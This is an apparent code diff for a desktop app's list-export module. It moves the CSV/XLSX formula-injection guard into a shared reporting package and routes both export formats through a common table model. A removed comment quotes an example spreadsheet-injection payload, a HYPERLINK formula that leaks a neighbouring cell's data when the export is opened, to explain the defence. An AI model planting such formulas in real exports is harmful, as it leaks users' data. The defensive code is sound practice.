@@ -12,14 +12,15 @@ search) → an Excel workbook or a CSV file.
 * XLSX: a title line, the filters in force, then the header row (bold, frozen) and the
   rows; column widths follow the list's columns; right-aligned columns whose cells are
   all plain numbers or amounts are written as numbers.
+* Both through the one table model and its writers (:mod:`deskapp.reporting`); the
+  inert-cell rule (``inert``, ``csv_writer``, ``inert_workbook``) lives there and is
+  re-exported here.
 
 No Textual here; the record list's export key (Ctrl+E) calls :func:`write_export`.
 """
 
 from __future__ import annotations
 
-import csv
-import io
 import os
 import re
 from collections.abc import Iterator
@@ -32,15 +33,20 @@ from deskapp import clock
 from deskapp.errors import ValidationError
 from deskapp.i18n import t
 from deskapp.masking import mask_text
+from deskapp.reporting.csv import BOM, csv_writer, inert
+from deskapp.reporting.csv import render as render_csv
+from deskapp.reporting.table import Cell, Column, Report, ReportTable
+from deskapp.reporting.xlsx import inert_workbook
+from deskapp.reporting.xlsx import render as render_xlsx
 from deskapp.services.listing import ListQuery, ListRow, ListSource
 
-__all__ = ["EXPORT_PAGE", "FORMATS", "csv_writer", "describe_query", "export_bytes",
-           "export_dir", "export_rows", "header", "inert", "inert_workbook", "write_export"]
+__all__ = ["BOM", "EXPORT_PAGE", "FORMATS", "csv_writer", "describe_query", "export_bytes",
+           "export_dir", "export_rows", "export_table", "header", "inert", "inert_workbook",
+           "write_export"]
 
 ExportFormat = Literal["xlsx", "csv"]
 FORMATS: tuple[str, ...] = ("xlsx", "csv")
 EXPORT_PAGE = 1000
-BOM = "\ufeff"
 _UNSAFE = re.compile(r'[\\/:*?"<>|\s]+')
 _AMOUNT = re.compile(r"^-?¥?-?[0-9][0-9,]*(\.[0-9]+)?$")
 
@@ -91,68 +97,37 @@ def export_bytes(session: Any, *, source: ListSource, query: ListQuery, fmt: str
     return _xlsx(session, source, query, title)
 
 
-# -- inert cells ------------------------------------------------------------------------
-#
-# A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
-# programs, a tab or carriage return) as a formula: a name typed as
-# ``=HYPERLINK("http://…"&F5,"查看详情")`` would send the neighbouring cell's data away
-# when the export is opened. Every CSV and XLSX the application writes goes through these
-# helpers, which write such text as text: prefixed with ``'`` (the OWASP CSV-injection
-# rule). Plain numbers (``-12.50``, ``+3``) are not formulas and stay as they are; numeric
-# cells (int, Decimal, float) are never touched.
-
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-_PLAIN_NUMBER = re.compile(r"^[-+]?¥?[-+]?(?:\d[\d,]*)?(?:\.\d+)?%?$")
-
-
-def inert(value: Any) -> Any:
-    """``value`` safe to put into a CSV or spreadsheet cell (non-text values unchanged)."""
-    if isinstance(value, str) and value.startswith(_FORMULA_START) and not (
-            any(c.isdigit() for c in value) and _PLAIN_NUMBER.match(value)):
-        return "'" + value
-    return value
+def _cell(text: str, numeric: bool) -> Any:
+    """A list cell for the table model: the text as the list shows it, and — in a
+    right-aligned column whose cell is a plain number or amount — the number for XLSX."""
+    number = _number(text) if numeric else None
+    if number is None:
+        return text
+    if isinstance(number, int):
+        return Cell(number, "int", text)
+    if number.as_tuple().exponent >= -2:  # type: ignore[operator]
+        return Cell(int(number * 100), "money", text)
+    return Cell(number, "number", text)
 
 
-class _InertWriter:
-    def __init__(self, writer: Any) -> None:
-        self._writer = writer
-
-    def writerow(self, row: Any) -> Any:
-        return self._writer.writerow([inert(v) for v in row])
-
-    def writerows(self, rows: Any) -> None:
-        for row in rows:
-            self.writerow(row)
-
-
-def csv_writer(buffer: Any, **kwargs: Any) -> Any:
-    """``csv.writer(buffer, **kwargs)`` whose rows are written through :func:`inert`."""
-    return _InertWriter(csv.writer(buffer, **kwargs))
-
-
-def inert_workbook(workbook: Any) -> Any:
-    """Every text cell of every sheet through :func:`inert` (call it before saving); no
-    formula survives: the application never writes one on purpose."""
-    for sheet in workbook.worksheets:
-        for row in sheet.iter_rows():
-            for cell in row:
-                if cell.data_type == "f" or isinstance(cell.value, str):
-                    value = inert(str(cell.value))
-                    if value != cell.value:
-                        cell.value = value
-                        cell.data_type = "s"
-    return workbook
+def export_table(session: Any, source: ListSource, query: ListQuery,
+                 title: str = "") -> Report:
+    """The list as a :class:`~deskapp.reporting.table.Report`: the title, the filters in
+    force and one table of the rows as the list shows them."""
+    columns = [Column(c.key, c.title_key, width=c.width) for c in source.columns]
+    numeric = [c.align == "right" for c in source.columns]
+    rows = [[_cell(text, numeric[i]) for i, text in enumerate(cells)]
+            for cells in export_rows(session, source, query)]
+    name = title or t("reports.export.sheet")
+    return Report(name, [ReportTable(columns, rows)],
+                  subtitle=t("reports.export.filters", filters=describe_query(source, query),
+                             at=clock.now().strftime("%Y-%m-%d %H:%M")))
 
 
 def _csv(session: Any, source: ListSource, query: ListQuery) -> tuple[bytes, int]:
-    buffer = io.StringIO(newline="")
-    writer = csv_writer(buffer, lineterminator="\r\n")
-    writer.writerow(header(source))
-    count = 0
-    for cells in export_rows(session, source, query):
-        writer.writerow(cells)
-        count += 1
-    return (BOM + buffer.getvalue()).encode("utf-8"), count
+    report = export_table(session, source, query)
+    text = render_csv(report, lineterminator="\r\n", bom=True)
+    return text.encode("utf-8"), len(report.tables[0].rows)
 
 
 def _number(text: str) -> Decimal | int | None:
@@ -169,43 +144,8 @@ def _number(text: str) -> Decimal | int | None:
 
 
 def _xlsx(session: Any, source: ListSource, query: ListQuery, title: str) -> tuple[bytes, int]:
-    from openpyxl import Workbook
-    from openpyxl.styles import Alignment, Font
-
-    wb = Workbook(write_only=False)
-    ws = wb.active
-    ws.title = re.sub(r"[\[\]:*?/\\]", "_", title or t("reports.export.sheet"))[:31]
-    ws.append([inert(title or t("reports.export.sheet"))])
-    ws["A1"].font = Font(bold=True, size=13)
-    ws.append([inert(t("reports.export.filters", filters=describe_query(source, query),
-                       at=clock.now().strftime("%Y-%m-%d %H:%M")))])
-    ws.append([inert(h) for h in header(source)])
-    head_row = ws.max_row
-    for cell in ws[head_row]:
-        cell.font = Font(bold=True)
-    numeric = [c.align == "right" for c in source.columns]
-    count = 0
-    for cells in export_rows(session, source, query):
-        out: list[Any] = []
-        for i, text in enumerate(cells):
-            number = _number(text) if numeric[i] else None
-            out.append(inert(text) if number is None else number)
-        ws.append(out)
-        count += 1
-        row = ws.max_row
-        for i, text in enumerate(cells):
-            if numeric[i] and isinstance(ws.cell(row, i + 1).value, Decimal | float):
-                ws.cell(row, i + 1).number_format = "#,##0.00"
-            elif "\n" in text:
-                ws.cell(row, i + 1).alignment = Alignment(wrap_text=True)
-    ws.freeze_panes = ws.cell(head_row + 1, 1)
-    from openpyxl.utils import get_column_letter
-
-    for i, column in enumerate(source.columns, start=1):
-        ws.column_dimensions[get_column_letter(i)].width = max(6, column.width + 2)
-    out_io = io.BytesIO()
-    wb.save(out_io)
-    return out_io.getvalue(), count
+    report = export_table(session, source, query, title)
+    return render_xlsx(report), len(report.tables[0].rows)
 
 
 def export_dir() -> Path:
